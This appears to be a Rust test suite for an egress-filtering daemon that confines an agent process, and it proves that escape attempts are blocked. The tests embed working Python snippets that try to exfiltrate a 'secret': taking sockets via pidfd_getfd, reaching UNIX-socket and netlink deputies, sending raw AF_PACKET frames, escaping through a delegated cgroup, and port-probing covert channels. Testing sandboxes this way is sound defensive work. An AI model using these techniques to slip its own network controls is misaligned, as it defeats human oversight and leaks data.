//! Channels other than a connect() or a datagram to an address: taking the
//! sockets of a process outside the cgroup, and local deputies over UNIX
//! sockets. Each attack is proven held at the receiving end.

use std::{
    io::{BufRead, BufReader},
    process::{Command, Stdio},
};

use egress_tests::{
    egressd::{bin, exec, Daemon, TempDir, TestCgroup},
    listen::Listener,
    netns::Netns,
    outside::{Outside, PYTHON},
    require_root,
};

/// `exec --user nobody`: another process of nobody's, outside the cgroup,
/// holds a UDP socket connected to a destination the policy refuses. The
/// command takes it with pidfd_getfd and writes through it: the socket was
/// made outside, so no hook of the cgroup judges it. The command's Landlock
/// domain refuses pidfd_getfd (and ptrace) of processes outside it.
#[test]
fn exec_cannot_take_the_sockets_of_its_uid_outside_the_cgroup() {
    require_root();
    let ns = Netns::new("getfd").unwrap();
    let bad = Listener::udp(&ns, "203.0.113.9:5300").unwrap();
    let (_holder, fd) = Outside::start(
        &ns,
        65534,
        "import socket, time\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.connect(('203.0.113.9', 5300))\n\
         print(s.fileno(), flush=True)\n\
         time.sleep(30)",
    );
    let pid = _holder.0.id().to_string();
    let thief = "import ctypes, os, sys\n\
                 libc = ctypes.CDLL(None, use_errno=True)\n\
                 pidfd = libc.syscall(434, int(sys.argv[1]), 0)\n\
                 if pidfd < 0: print('pidfd_open', ctypes.get_errno()); sys.exit()\n\
                 fd = libc.syscall(438, pidfd, int(sys.argv[2]), 0)\n\
                 if fd < 0: print('refused', ctypes.get_errno()); sys.exit()\n\
                 os.write(fd, b'secret'); print('sent')";
    let r = exec(
        &ns,
        &["--user", "nobody", "--allow", "198.51.100.1:443"],
        &[PYTHON, "-c", thief, &pid, &fd],
    )
    .unwrap();
    // Without Landlock (before 5.19, or not among the LSMs) exec cannot
    // close this, and must say so.
    if r.stderr.contains("Landlock is not available") || r.stderr.contains("Landlock is too old") {
        assert!(
            r.stderr
                .contains("can ptrace or pidfd_getfd processes of its uid"),
            "{r:?}"
        );
        eprintln!("no usable Landlock on this kernel: asserted that exec says so");
        return;
    }
    // setpriv execs python3: the holder's pid is python's.
    assert_eq!(r.stdout.trim(), "refused 1", "{r:?}");
    assert_eq!(bad.count(), 0, "the datagram left through a taken socket");
}

/// A local deputy outside the cgroup listens on an abstract UNIX socket
/// (as a session bus or a desktop agent does) and would carry whatever it
/// gets. The command cannot connect to it (the UNIX hooks, Linux 6.7, and
/// Landlock ABI 6, Linux 6.12).
#[test]
fn exec_cannot_reach_an_abstract_unix_socket_outside() {
    require_root();
    let ns = Netns::new("abstract").unwrap();
    let name = format!("egressd-test-deputy-{}", std::process::id());
    let deputy = format!(
        "import socket, sys\n\
         s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n\
         s.bind('\\0{name}'); s.listen(8); s.settimeout(20)\n\
         print('ready', flush=True)\n\
         c, _ = s.accept(); c.settimeout(5)\n\
         got = c.recv(100)\n\
         print(len(got), flush=True)"
    );
    let (mut deputy, ready) = Outside::start(&ns, 0, &deputy);
    assert_eq!(ready, "ready");
    let client = format!(
        "import socket\n\
         s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n\
         try:\n    s.connect('\\0{name}'); s.sendall(b'secret'); print('sent')\n\
         except PermissionError: print('refused')"
    );
    let r = exec(
        &ns,
        &["--user", "nobody", "--allow", "198.51.100.1:443"],
        &[PYTHON, "-c", &client],
    )
    .unwrap();
    // Closed by the UNIX hooks (Linux 6.7) or Landlock's scope (6.12);
    // on older kernels exec must say that UNIX sockets are open.
    if !egress_tests::kernel_at_least(6, 7) {
        assert!(r.stderr.contains("UNIX sockets are not judged"), "{r:?}");
        eprintln!("no UNIX hooks or Landlock scopes on this kernel: asserted that exec says so");
        return;
    }
    assert_eq!(r.stdout.trim(), "refused", "{r:?}");
    // The deputy got no connection: its accept is still waiting (a reached
    // deputy prints what it got and ends at once).
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert!(
        deputy.0.try_wait().unwrap().is_none(),
        "the deputy was reached"
    );
}

/// A governed cgroup whose parent is delegated to the agent's uid (as
/// systemd delegates `user@UID.service`): the agent could make a sibling
/// cgroup there and move out. `run` refuses to govern it, and `governed`
/// says no when the delegation comes later.
#[test]
fn a_cgroup_with_a_delegated_ancestor_is_refused() {
    use std::os::unix::fs::chown;
    require_root();
    let ns = Netns::new("deleg").unwrap();
    let parent = TestCgroup::new("deleg").unwrap();
    parent.cgroup.create().unwrap();
    let agent = parent.child("agent").unwrap();
    let dir = TempDir::new("deleg").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: p\ncgroups: [{}]\nallow: []\n", agent.rel_str()),
        )
        .unwrap();
    let delegate = |uid: u32| {
        for p in [
            parent.cgroup.path.clone(),
            parent.cgroup.path.join("cgroup.procs"),
        ] {
            chown(&p, Some(uid), Some(uid)).unwrap();
        }
    };
    delegate(65534);
    let err = Daemon::start(&ns, &policy)
        .err()
        .expect("egressd governed below a delegated cgroup");
    assert!(err.to_string().contains("writable by uid 65534"), "{err:#}");

    // Governed while not delegated; delegated afterwards.
    delegate(0);
    let _daemon = Daemon::start(&ns, &policy).unwrap();
    let governed = |rel: &str| {
        Command::new(bin())
            .args(["governed", "--policy", "p", "--cgroup", rel])
            .output()
            .unwrap()
    };
    assert!(governed(&agent.rel_str()).status.success());
    delegate(65534);
    let out = governed(&agent.rel_str());
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("delegated"),
        "{out:?}"
    );
    delegate(0);
}

/// Inbound: the agent listens, and a peer the policy does not allow
/// connects in. The backstop drops the SYN-ACKs it sees, so the listen
/// queue fills and SYN cookies answer for the agent, with SYN-ACKs that
/// belong to no socket (no cgroup program sees them). The peer completes
/// the handshake; what the agent then writes on the accepted socket must
/// not reach it: an accepted socket was never judged, so its segments are.
#[test]
fn an_accepted_connection_from_a_peer_not_allowed_gets_nothing() {
    require_root();
    let ns = Netns::new("inbound").unwrap();
    // 2: every SYN-ACK is a cookie (the handshake always completes, unseen);
    // 1 (the default): cookies once the listen queue is full.
    // A port per round: a round does not wait for the last one's sockets.
    for (cookies, family, agent_addr, peer_addr, port) in [
        ("2", "AF_INET", "198.51.100.1", "203.0.113.9", "8080"),
        ("2", "AF_INET6", "2001:db8::1", "2001:db8::53", "8081"),
        ("1", "AF_INET", "198.51.100.1", "203.0.113.9", "8082"),
    ] {
        let set = ns
            .command("sysctl")
            .args(["-qw", &format!("net.ipv4.tcp_syncookies={cookies}")])
            .status()
            .unwrap();
        assert!(set.success());
        let agent = format!(
            "import socket, time\n\
             s = socket.socket(socket.{family}, socket.SOCK_STREAM)\n\
             s.bind(('{agent_addr}', {port})); s.listen(1); s.settimeout(0.5)\n\
             print('listening', flush=True)\n\
             end = time.time() + 12\n\
             while time.time() < end:\n\
             \x20   try:\n\
             \x20       c, _ = s.accept()\n\
             \x20   except socket.timeout:\n\
             \x20       continue\n\
             \x20   try:\n\
             \x20       c.sendall(b'secret'); print('wrote', flush=True)\n\
             \x20   except OSError as e:\n\
             \x20       print('refused', e.errno, flush=True)\n"
        );
        let mut child = ns
            .command(bin())
            .args([
                "exec",
                "--allow",
                "198.51.100.1:443",
                "--allow",
                "[2001:db8::1]:443",
                // It may listen (see the next test); its peers are judged.
                "--listen",
                port,
                "--",
            ])
            .args([PYTHON, "-c", &agent])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut out = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        if line.trim() != "listening" {
            let _ = child.wait();
            let mut err = String::new();
            let _ = std::io::Read::read_to_string(child.stderr.as_mut().unwrap(), &mut err);
            panic!("{family}, syncookies {cookies}: the agent did not listen: {line:?} {err}");
        }
        let peer = format!(
            "import socket\n\
             got = 0; connected = 0\n\
             for i in range(5):\n\
             \x20   s = socket.socket(socket.{family}, socket.SOCK_STREAM)\n\
             \x20   s.bind(('{peer_addr}', 0)); s.settimeout(1)\n\
             \x20   try:\n\
             \x20       s.connect(('{agent_addr}', {port})); connected += 1\n\
             \x20       got += len(s.recv(100))\n\
             \x20   except OSError:\n\
             \x20       pass\n\
             print(connected, got)"
        );
        let peer = ns.command(PYTHON).args(["-c", &peer]).output().unwrap();
        // SIGINT, which exec forwards, then cleans up after.
        // SAFETY: signalling our own child.
        unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
        let _ = child.wait();
        let mut rest = String::new();
        let _ = std::io::Read::read_to_string(&mut out, &mut rest);
        let counts = String::from_utf8_lossy(&peer.stdout).trim().to_string();
        let got = counts.split_whitespace().nth(1).unwrap_or("?").to_string();
        assert_eq!(
            got, "0",
            "{family}, syncookies {cookies}: the peer received the agent's data (connected, bytes: {counts}); agent: {rest}"
        );
    }
}

/// Socket families that no cgroup program sees are refused under `exec`
/// unless named: AF_PACKET (root has CAP_NET_RAW, and writes frames past
/// every hook: a capture on the path sees nothing), AF_VSOCK (this host has
/// no vsock loopback, so the test proves the socket cannot be made) and
/// AF_XDP. io_uring, which makes sockets out of the filter's sight, is
/// refused too. `--allow-family vsock` opens that family alone.
#[test]
fn exec_refuses_socket_families_no_policy_names() {
    require_root();
    let ns = Netns::new("family").unwrap();
    let seen = Listener::capture(&ns, "203.0.113.9").unwrap();
    let script = "import ctypes\n".to_string()
        + PACKET_FRAME
        + "\
        try_make('sock_packet', socket.AF_INET, 10, socket.htons(3))\n\
        try_make('vsock', socket.AF_VSOCK, socket.SOCK_STREAM)\n\
        try_make('xdp', 44, socket.SOCK_RAW)\n\
        try_make('unix', socket.AF_UNIX, socket.SOCK_STREAM)\n\
        try_make('netlink', socket.AF_NETLINK, socket.SOCK_RAW, 0)\n\
        libc = ctypes.CDLL(None, use_errno=True)\n\
        params = ctypes.create_string_buffer(120)\n\
        fd = libc.syscall(425, 4, params)\n\
        print('io_uring', 'made' if fd >= 0 else 'refused %d' % ctypes.get_errno())";
    let r = exec(
        &ns,
        &["--allow", "198.51.100.1:443"],
        &[PYTHON, "-c", &script],
    )
    .unwrap();
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines,
        [
            "packet refused 97",
            "sock_packet refused 97",
            "vsock refused 97",
            "xdp refused 97",
            "unix made",
            "netlink made",
            "io_uring refused 38",
        ],
        "{r:?}"
    );
    assert_eq!(
        seen.count(),
        0,
        "a frame written on an AF_PACKET socket left"
    );
    let r = exec(
        &ns,
        &["--allow", "198.51.100.1:443", "--allow-family", "vsock"],
        &[
            PYTHON,
            "-c",
            "import socket\nsocket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\nprint('made')",
        ],
    )
    .unwrap();
    assert_eq!(r.stdout.trim(), "made", "{r:?}");
}

/// A deputy of another uid, outside the cgroup, listening on
/// NETLINK_USERSOCK (which any uid may send to), as a local daemon can.
/// Prints its port id, then how many messages came before the test's
/// `end`.
const NETLINK_DEPUTY: &str = "import socket\n\
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)\n\
    s.bind((0, 0))\n\
    print(s.getsockname()[0], flush=True)\n\
    n = 0\n\
    while s.recv(4096) != b'end':\n\
    \x20   n += 1\n\
    print(n, flush=True)";

/// The agent: a NETLINK_ROUTE socket (what getaddrinfo and getifaddrs
/// use), then a message to the deputy's port (argv[1]) on
/// NETLINK_USERSOCK.
const NETLINK_AGENT: &str = "import socket, sys\n\
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close(); print('route made')\n\
    try:\n\
    \x20   s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)\n\
    \x20   s.sendto(b'secret', (int(sys.argv[1]), 0)); print('usersock sent')\n\
    except OSError as e:\n\
    \x20   print('usersock refused', e.errno)";

/// How many messages the deputy got: `end` is sent from outside the
/// cgroup, then its count read.
fn netlink_deputy_count(ns: &Netns, mut deputy: Outside, port: &str) -> String {
    let end = format!(
        "import socket\ns = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)\ns.sendto(b'end', ({port}, 0))"
    );
    let sent = ns.command(PYTHON).args(["-c", &end]).status().unwrap();
    assert!(sent.success());
    deputy.line()
}

/// Netlink is judged by protocol: the agent makes NETLINK_ROUTE sockets,
/// but not NETLINK_USERSOCK, through which a deputy of another uid would
/// carry its message out: refused under `exec` (its seccomp filter:
/// EPROTONOSUPPORT) and under `run` where BPF LSM runs (EPERM, an event).
/// `--allow-family netlink` opens it (and the deputy gets the message:
/// the attack is real). The deputy got nothing where it was refused.
#[test]
fn netlink_reaches_a_deputy_only_where_named() {
    require_root();
    let ns = Netns::new("netlink").unwrap();
    // Under exec with `flags`: what the agent says, what the deputy got.
    let under_exec = |flags: &[&str], said: &str, got: &str| {
        let (deputy, port) = Outside::start(&ns, 65534, NETLINK_DEPUTY);
        let mut args = vec!["--user", "nobody", "--allow", "198.51.100.1:443"];
        args.extend_from_slice(flags);
        let r = exec(&ns, &args, &[PYTHON, "-c", NETLINK_AGENT, &port]).unwrap();
        assert_eq!(
            r.stdout.lines().collect::<Vec<_>>(),
            ["route made", said],
            "{flags:?}: {r:?}"
        );
        assert_eq!(netlink_deputy_count(&ns, deputy, &port), got, "{flags:?}");
    };
    under_exec(&[], "usersock refused 93", "0");
    under_exec(&["--allow-family", "netlink"], "usersock sent", "1");

    let (deputy, port) = Outside::start(&ns, 65534, NETLINK_DEPUTY);
    let cg = TestCgroup::new("netlink").unwrap();
    let dir = TempDir::new("netlink").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: nl\ncgroups: [{}]\nallow: []\n", cg.rel_str()),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    if !daemon.status().contains("socket families: judged") {
        eprintln!("BPF LSM does not run on this kernel: run cannot judge netlink (run_refuses_socket_families_where_bpf_lsm_runs asserts that status says so)");
        return;
    }
    let out = cg
        .run(
            &ns,
            "setpriv",
            &[
                "--reuid",
                "65534",
                "--regid",
                "65534",
                "--clear-groups",
                PYTHON,
                "-c",
                NETLINK_AGENT,
                &port,
            ],
        )
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .collect::<Vec<_>>(),
        ["route made", "usersock refused 1"],
        "{out:?}"
    );
    assert_eq!(netlink_deputy_count(&ns, deputy, &port), "0", "run");
    let events = daemon.wait_events(1);
    assert!(
        events
            .iter()
            .any(|e| e["hook"] == "socket_family" && e["family"] == "netlink"),
        "{events:?}"
    );
}

/// `exec` refuses new user and network namespaces: in a user namespace of
/// its own the command holds CAP_NET_ADMIN and CAP_NET_RAW over a network
/// namespace of its own, and CAP_SYS_ADMIN for mounts (which Landlock
/// refuses too, where it runs: a socket mounted over an allowed UNIX
/// name). `unshare` fails with EPERM; threads and child processes still
/// start (the C library falls back from clone3, which fails with ENOSYS,
/// to clone). `--allow-namespaces` opens them.
#[test]
fn exec_refuses_new_user_and_network_namespaces_unless_allowed() {
    require_root();
    let ns = Netns::new("userns").unwrap();
    let script = "for flags in -Ur -Urn; do
          if unshare $flags true 2>/dev/null; then echo \"$flags made\"; else echo \"$flags refused\"; fi
        done
        /usr/bin/python3 -c 'import threading, subprocess; t = threading.Thread(target=lambda: print(\"thread\", flush=True)); t.start(); t.join(); subprocess.run([\"echo\", \"child\"])'";
    let run = |extra: &[&str]| {
        let mut args = vec!["--user", "nobody", "--allow", "198.51.100.1:443"];
        args.extend_from_slice(extra);
        exec(&ns, &args, &["sh", "-c", script]).unwrap()
    };
    let r = run(&[]);
    assert_eq!(
        r.stdout.lines().collect::<Vec<_>>(),
        ["-Ur refused", "-Urn refused", "thread", "child"],
        "{r:?}"
    );
    let r = run(&["--allow-namespaces"]);
    assert_eq!(
        r.stdout.lines().collect::<Vec<_>>(),
        ["-Ur made", "-Urn made", "thread", "child"],
        "{r:?}"
    );
}

/// A listening socket others could reach needs a `listen` rule: bind() to a
/// port on any address but loopback is refused (EPERM, an event), so no
/// peer can connect in, nor learn which ports answer. Loopback and port 0
/// (a client's bind before it connects) stay free to bind, but a port the
/// kernel picked on a reachable address may not listen; `--listen` opens
/// one port.
#[test]
fn binding_a_reachable_port_needs_a_listen_rule() {
    require_root();
    let ns = Netns::new("bind").unwrap();
    let script = "import socket\n\
        for fam, kind, addr in ((socket.AF_INET, socket.SOCK_STREAM, ('198.51.100.1', 8080)),\n\
        \x20                       (socket.AF_INET, socket.SOCK_STREAM, ('0.0.0.0', 8080)),\n\
        \x20                       (socket.AF_INET6, socket.SOCK_STREAM, ('::', 8080)),\n\
        \x20                       (socket.AF_INET, socket.SOCK_DGRAM, ('0.0.0.0', 5353)),\n\
        \x20                       (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', 8080)),\n\
        \x20                       (socket.AF_INET6, socket.SOCK_STREAM, ('::1', 8081)),\n\
        \x20                       (socket.AF_INET, socket.SOCK_STREAM, ('198.51.100.1', 0))):\n\
        \x20   s = socket.socket(fam, kind)\n\
        \x20   try:\n\
        \x20       s.bind(addr); print('bound')\n\
        \x20       if kind == socket.SOCK_STREAM: s.listen(1)\n\
        \x20   except PermissionError: print('refused')\n\
        \x20   s.close()";
    let r = exec(
        &ns,
        &["--allow", "198.51.100.1:443"],
        &[PYTHON, "-c", script],
    )
    .unwrap();
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines,
        ["refused", "refused", "refused", "refused", "bound", "bound", "bound", "refused"],
        "{r:?}"
    );
    let reasons: Vec<&str> = r
        .events
        .iter()
        .filter_map(|e| e["reason"].as_str())
        .collect();
    assert_eq!(reasons, ["listen_not_allowed"; 5], "{:?}", r.events);
    // The receiving end: while the agent runs, a peer finds nothing there.
    let agent = "import socket, time\n\
        try:\n\
        \x20   s = socket.socket(); s.bind(('198.51.100.1', 8080)); s.listen(1)\n\
        \x20   print('listening', flush=True)\n\
        except PermissionError: print('refused', flush=True)\n\
        time.sleep(3)";
    let peer = "import socket, time\n\
        time.sleep(1)\n\
        try:\n    socket.create_connection(('198.51.100.1', 8080), timeout=1); print('connected')\n\
        except OSError: print('nothing there')";
    let mut peer = ns
        .command(PYTHON)
        .args(["-c", peer])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let r = exec(
        &ns,
        &["--allow", "198.51.100.1:443"],
        &[PYTHON, "-c", agent],
    )
    .unwrap();
    assert_eq!(r.stdout.trim(), "refused", "{r:?}");
    let mut got = String::new();
    BufReader::new(peer.stdout.take().unwrap())
        .read_line(&mut got)
        .unwrap();
    let _ = peer.wait();
    assert_eq!(got.trim(), "nothing there");
    // listen() without bind() takes a port of the kernel's choosing on
    // every address, where the bind hook cannot see. Refused (EPERM, an
    // event), while a UNIX socket listens as before.
    // From a thread other than the main one too (the notification names
    // the thread).
    let agent = "import socket, threading\n\
        s = socket.socket()\n\
        try:\n    s.listen(1); print('listening')\n\
        except PermissionError: print('refused')\n\
        said = []\n\
        def worker():\n\
        \x20   t = socket.socket(); t.bind(('127.0.0.1', 0)); t.listen(1); said.append('thread loopback listening')\n\
        \x20   v = socket.socket()\n\
        \x20   try: v.listen(1); said.append('thread listening')\n\
        \x20   except PermissionError: said.append('thread refused')\n\
        th = threading.Thread(target=worker); th.start(); th.join()\n\
        print('\\n'.join(said))\n\
        u = socket.socket(socket.AF_UNIX); u.bind('\\0egressd-test-listen'); u.listen(1)\n\
        print('unix listening')";
    let r = exec(
        &ns,
        &["--allow", "198.51.100.1:443"],
        &[PYTHON, "-c", agent],
    )
    .unwrap();
    assert_eq!(
        r.stdout, "refused\nthread loopback listening\nthread refused\nunix listening\n",
        "{r:?}"
    );
    let e = r
        .events
        .iter()
        .find(|e| e["hook"] == "listen")
        .unwrap_or_else(|| panic!("no listen event: {:?}", r.events));
    assert_eq!(e["reason"], "listen_not_allowed", "{e}");
    assert_eq!(e["verdict"], "denied", "{e}");
    assert_eq!(e["comm"], "python3", "{e}");
    assert!(
        r.stderr.contains("(listen on 0.0.0.0, any port)"),
        "{}",
        r.stderr
    );
    // The receiving end: the agent picks which ports listen by listening
    // until the kernel hands it the port it wants (here from a range of
    // two; the kernel hands listeners odd ones), and a peer outside reads a bit per port: silence where it
    // listens (the backstop drops the SYN-ACK), a reset where nothing
    // does. The peer must read the same from both.
    let set = ns
        .command("sysctl")
        .args(["-qw", "net.ipv4.ip_local_port_range=40000 40001"])
        .status()
        .unwrap();
    assert!(set.success());
    let agent = "import socket, time\n\
        held, said = [], 'missed'\n\
        for i in range(20):\n\
        \x20   s = socket.socket()\n\
        \x20   try: s.listen(1)\n\
        \x20   except PermissionError: said = 'refused'; break\n\
        \x20   if s.getsockname()[1] == 40001: held.append(s); said = 'holding'; break\n\
        \x20   s.close()\n\
        print(said, flush=True); time.sleep(3)";
    let mut child = ns
        .command(bin())
        .args([
            "exec",
            "--allow",
            "198.51.100.2:*",
            "--",
            PYTHON,
            "-c",
            agent,
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut said = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut said)
        .unwrap();
    let peer = "import socket\n\
         for port in (40000, 40001):\n\
         \x20   s = socket.socket(); s.bind(('198.51.100.2', 5000 + port % 2)); s.settimeout(1)\n\
         \x20   try: s.connect(('198.51.100.1', port)); print('connected')\n\
         \x20   except ConnectionRefusedError: print('reset')\n\
         \x20   except OSError: print('silence')";
    let out = ns.command(PYTHON).args(["-c", peer]).output().unwrap();
    let _ = child.wait();
    assert_eq!(said.trim(), "refused");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "reset\nreset\n",
        "the agent said {said}"
    );
    // --listen opens the port, for TCP only.
    let r = exec(
        &ns,
        &["--allow", "198.51.100.1:443", "--listen", "8080"],
        &[PYTHON, "-c", script],
    )
    .unwrap();
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines,
        ["bound", "bound", "bound", "refused", "bound", "bound", "bound", "refused"],
        "{r:?}"
    );
}

/// Python: `try_make(name, *args)` prints `name made` or `name refused
/// ERRNO`; it first makes an AF_PACKET socket, and if it was made, writes
/// a UDP frame for 203.0.113.9 with it (which a capture there would see).
const PACKET_FRAME: &str = "import socket, struct\n\
        def try_make(name, *args):\n\
        \x20   try:\n\
        \x20       s = socket.socket(*args); print(name, 'made'); return s\n\
        \x20   except OSError as e:\n\
        \x20       print(name, 'refused', e.errno)\n\
        p = try_make('packet', socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))\n\
        if p:\n\
        \x20   hdr = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28, 0, 0, 64, 17, 0, socket.inet_aton('203.0.113.1'), socket.inet_aton('203.0.113.9'))\n\
        \x20   p.sendto(hdr + struct.pack('!HHHH', 9, 9, 8, 0), ('lo', 0x0800))\n\
";

/// `egressd run` where the kernel runs BPF LSM (Debian's own kernels do):
/// socket() of a family the policy does not name fails with EPERM in the
/// governed cgroup (no seccomp filter there: the agent was started by
/// someone else), and a frame written on an AF_PACKET socket never
/// leaves; a family the policy names is made. Where BPF LSM does not run,
/// `status` must say that socket families are not judged.
#[test]
fn run_refuses_socket_families_where_bpf_lsm_runs() {
    require_root();
    let ns = Netns::new("lsmfamily").unwrap();
    let seen = Listener::capture(&ns, "203.0.113.9").unwrap();
    let cg = TestCgroup::new("lsmfamily").unwrap();
    let dir = TempDir::new("lsmfamily").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!(
                "name: fam\ncgroups: [{}]\nallow: []\nchannels:\n  families: [vsock]\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    let status = daemon.status();
    if !status.contains("socket families: judged") {
        assert!(
            status.contains("socket families: not judged")
                && status.contains("not closed by egressd run: socket families"),
            "{status}"
        );
        eprintln!("BPF LSM does not run on this kernel: asserted that status says so");
        return;
    }
    let script = PACKET_FRAME.to_string()
        + "\
        try_make('xdp', 44, socket.SOCK_RAW)\n\
        try_make('vsock', socket.AF_VSOCK, socket.SOCK_STREAM)\n\
        try_make('unix', socket.AF_UNIX, socket.SOCK_STREAM)";
    let out = cg.run(&ns, PYTHON, &["-c", &script]).unwrap();
    let out = String::from_utf8_lossy(&out.stdout).into_owned();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        [
            "packet refused 1",
            "xdp refused 1",
            "vsock made",
            "unix made"
        ],
        "{out}"
    );
    assert_eq!(
        seen.count(),
        0,
        "a frame written on an AF_PACKET socket left"
    );
    let events = daemon.wait_events(2);
    let families: Vec<&str> = events
        .iter()
        .filter(|e| e["hook"] == "socket_family")
        .map(|e| e["family"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(families, ["packet", "xdp"], "{events:?}");
}
